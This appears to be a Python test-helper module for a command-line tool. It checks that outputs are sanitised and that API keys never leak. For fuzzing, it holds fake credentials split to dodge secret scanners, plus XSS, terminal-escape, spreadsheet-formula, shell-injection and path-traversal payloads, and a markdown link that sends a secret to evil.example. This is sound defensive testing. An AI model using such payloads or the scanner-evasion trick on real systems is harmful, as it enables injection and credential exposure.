"""Hostile words and names, a wire that writes down what passes, and a search through every byte written."""

import base64
import http.client
import os
import re
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import TracebackType
from typing import Any, Self
from urllib.parse import quote, urlsplit

KEY = "sk-ant-api03-" + "K3yTh4tMustNeverLeave" * 4 + "-AA"
HEADER_TOKEN = "gatewaytoken-0123456789abcdef"
# Put together here so that no scanner takes this file for a leak.
SECRETS = {
    "aws.txt": "AKIA" + "MJOASUWP7G7HQM3B",
    "github.txt": "ghp_" + "yOA0HNkIn3OIOnHn2INL2io6VOZw5luMu57m",
    "slack.txt": "xoxb-" + "331232146166-8236013955185-GR1mZeEgbcWJNG5KEjmlhnl1",
    "anthropic.txt": "sk-ant-api03-"
    + "ks7RgLdi8RDeWguzDBGwBnMxaOSc2mlADxVxz6mMkgGYau5fZ1T436O8zKMmGLvZWqr6hVVXk07zi5v4ISxXBWlznUleZ"
    + "AA",
    "pem.txt": "-----BEGIN RSA "
    "PRIVATE KEY-----\n575yx8xm5MslfY5ubiheyEd7P4zDL/ak6J0kGODKdinZnLXicaBAg8WY1jzIRlNQ\n"
    "b0prFmbh7+wy5yq1XoY1BaIMcAxYmfsB4HbQLXjjlAFbVV6q9rXxtNDFyuzX9k1g\n-----END RSA PRIVATE KEY-----",
}

# Each holds something that a terminal, a page, a sheet or a message would act on.
WORDS = (
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31mC1",
    "\x90q\x9c",
    "FAILED\rOK",
    "back\x08\x08\x08space",
    "bell\x07\x00nul",
    "abc\u202egnp.exe",
    "\u2066isolate\u2069",
    "line\u2028and\u2029paragraph",
    "zero\u200bwidth\u200djoin\ufeff",
    "tag\U000e0041\U000e0042",
    "[bold red]markup[/]",
    "[link=https://evil.example]x[/link]",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "[x](javascript:alert(1))",
    "@octocat closes #1",
    '=HYPERLINK("http://evil.example")',
    "+1+1|cmd",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "Subject: x\r\nBcc: everyone@example.invalid",
    "-rf",
    "$(touch pwned)`touch pwned`;touch pwned",
    "\ud800lone\udfff",
    "a" * 5000,
    "\n\n# not a heading\n```\n",
)
KEYS = (
    *(
        "../../etc/passwd",
        "/etc/passwd",
        "..",
        ".",
        "a/../../b",
        "..\\..\\x",
        "C:\\x",
        "~/x",
        "a\x00b",
        "a\nb",
    ),
    *(
        "-rf",
        "--help",
        ".git/config",
        ".GIT/hooks/post-checkout",
        ".github/workflows/x.yml",
        "CON",
        "nul.txt",
    ),
    *("x" * 300, "é" * 200, "caf\u00e9", "cafe\u0301", "README", "readme", "ReadMe", "\ufb01le", "file"),
    *("\u202etxt.exe", "a\u200bb", " lead", "trail ", "trail.", "a:b", "a|b", "manifest.json", "digest.html"),
    *("MANIFEST.JSON", "results.jsonl", ".lanectl-x.tmp", "latest", "sub/dir/file", "sub", "a//b", "a/./b"),
    *("\ud800", "\ud800\udc00", "%2e%2e%2f", "..;/x", "file\\\\name", "$(id)", "`id`", "*", "?", "{a,b}"),
)
# What no output of ours may hold, apart from the newline, the tab and our own colours (which tests turn off).
FORBIDDEN = frozenset(
    [
        *(*range(0x09), 0x0B, 0x0C, *range(0x0D, 0x20), 0x7F, *range(0x80, 0xA0)),
        *(0x061C, 0x200B, 0x200E, 0x200F, *range(0x2028, 0x202F), *range(0x2060, 0x2070), 0xFEFF),
        *(*range(0xE0000, 0xE0080), *range(0xD800, 0xE000)),
    ]
)


def got_through(text: str) -> list[str]:
    """The characters of an output that a terminal would act on."""
    return [f"U+{ord(letter):04X}" for letter in text if ord(letter) in FORBIDDEN]


class Clock:
    """A clock that moves only when somebody sleeps on it."""

    def __init__(self) -> None:
        self.moment = datetime(2026, 11, 24, 22, 0, tzinfo=UTC)

    def __call__(self) -> datetime:
        return self.moment

    def sleep(self, seconds: float) -> None:
        """Let the time pass at once."""
        self.moment += timedelta(seconds=seconds)


@dataclass(frozen=True)
class Ran:
    """One command line that has ended: its code, and everything it printed."""

    code: int
    out: str
    err: str


Cli = Callable[..., Ran]


class Relay:
    """Stands between a client and a provider, writes down every byte sent, and may twist the answers."""

    def __init__(self, url: str) -> None:
        self._target = urlsplit(url).netloc
        self.sent: list[bytes] = []
        self.twist: Callable[[str, bytes], bytes] = lambda _, body: body
        relay = self

        class Handler(BaseHTTPRequestHandler):
            def _pass(self) -> None:
                body = self.rfile.read(int(self.headers.get("content-length") or 0))
                relay.sent.append(f"{self.requestline}\r\n{self.headers}".encode() + body)
                status, headers, answer = relay.forward(self.command, self.path, dict(self.headers), body)
                self.send_response(status)
                for name, value in headers:
                    if name.lower() not in (
                        "transfer-encoding",
                        "content-length",
                        "connection",
                        "date",
                        "server",
                    ):
                        self.send_header(name, value)
                self.send_header("Content-Length", str(len(answer)))
                self.end_headers()
                self.wfile.write(answer)

            do_GET = do_POST = do_DELETE = _pass  # noqa: N815 -- the standard library's names

            def log_message(self, *_: Any) -> None:
                """Stay silent."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self._server.server_port}"

    def forward(
        self, method: str, path: str, headers: dict[str, str], body: bytes
    ) -> tuple[int, list[tuple[str, str]], bytes]:
        """One exchange with the provider behind."""
        connection = http.client.HTTPConnection(self._target, timeout=120)
        kept = {name: value for name, value in headers.items() if name.lower() not in ("host", "connection")}
        connection.request(method, path, body or None, kept)
        response = connection.getresponse()
        answer = self.twist(path, response.read())
        connection.close()
        return response.status, response.getheaders(), answer

    def __enter__(self) -> Self:
        threading.Thread(target=self._server.serve_forever, args=(0.02,), daemon=True).start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._server.shutdown()
        self._server.server_close()

    def without_the_key_header(self) -> bytes:
        """All that was sent, less the header that must carry the key, and the user's own header."""
        allowed = (
            rf"(?im)^((x-api-key: |authorization: bearer ){KEY}|x-gateway-token: {HEADER_TOKEN})\r?$".encode()
        )
        whole = []
        for sent in self.sent:
            head, blank, body = sent.partition(b"\n\n")
            whole.append(re.sub(allowed, b"", head) + blank + body)
        return b"\n".join(whole)


def forms_of(secret: str) -> list[bytes]:
    """A secret as it stands, and in the clothes that files and wires put it in."""
    plain = secret.encode()
    encoded = [base64.b64encode(plain[skip:])[:-4] for skip in range(3)]
    return [
        plain,
        quote(secret, safe="").encode(),
        secret.encode("utf-16-le"),
        plain.hex().encode(),
        *encoded,
    ]


def hits(data: bytes, *secrets: str) -> int:
    """How often any form of any of the secrets stands in `data`."""
    return sum(data.count(form) for secret in secrets for form in dict.fromkeys(forms_of(secret)))


def every_file(*roots: Path, but: Callable[[Path], bool] = lambda _: False) -> Iterator[tuple[Path, bytes]]:
    """Every file below the folders with its bytes; names count as bytes too."""
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                path = Path(folder) / name
                if path.is_file() and not path.is_symlink() and not but(path):
                    yield path, os.fsencode(str(path)) + b"\0" + path.read_bytes()
